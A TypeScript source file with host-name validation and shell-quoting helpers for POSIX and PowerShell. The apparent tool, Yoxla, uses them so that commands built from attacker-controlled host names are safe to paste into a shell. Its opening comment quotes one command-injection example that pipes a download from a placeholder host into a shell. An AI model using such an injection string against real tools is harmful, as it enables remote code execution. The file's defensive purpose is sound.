// Commands Yoxla suggests are pasted into a shell, and the host names in them come from measured
// redirects and saved runs, which an attacker controls (`x.az;curl evil|sh` is a valid URL host
// to a lax parser). Only real host names and IP addresses are ever printed, and each is quoted
// for the shell the person uses.
import { isIP } from 'node:net';

export type Shell = 'posix' | 'powershell';

/** LDH labels (letters, digits, inner hyphens; punycode `xn--` labels are LDH too), at least two. */
const HOST_NAME = /^(?=.{1,253}$)(?!-)[a-z0-9-]{1,63}(?<!-)(?:\.(?!-)[a-z0-9-]{1,63}(?<!-))+$/i;

/** The host as it may be printed in a command (lower-case, no trailing dot), or null when it is not a host name or IP. */
export function printableHost(text: string): string | null {
  const host = text.trim().replace(/^\[(.*)\]$/, '$1').replace(/\.$/, '');
  if (isIP(host)) return host.toLowerCase();
  return HOST_NAME.test(host) ? host.toLowerCase() : null;
}

export function shellOf(platform: NodeJS.Platform = process.platform): Shell {
  return platform === 'win32' ? 'powershell' : 'posix';
}

/** One word for the shell: bare when it holds only harmless characters, else single-quoted. */
export function quoteWord(word: string, shell: Shell): string {
  if (shell === 'powershell') {
    // PowerShell's single quotes are literal; a quote inside (also the typographic ones) is doubled.
    return /^[A-Za-z0-9._-]+$/.test(word) ? word : `'${word.replace(/['\u2018\u2019\u201a\u201b]/g, (q) => q + q)}'`;
  }
  return /^[A-Za-z0-9._:/-]+$/.test(word) ? word : `'${word.replace(/'/g, `'\\''`)}'`;
}
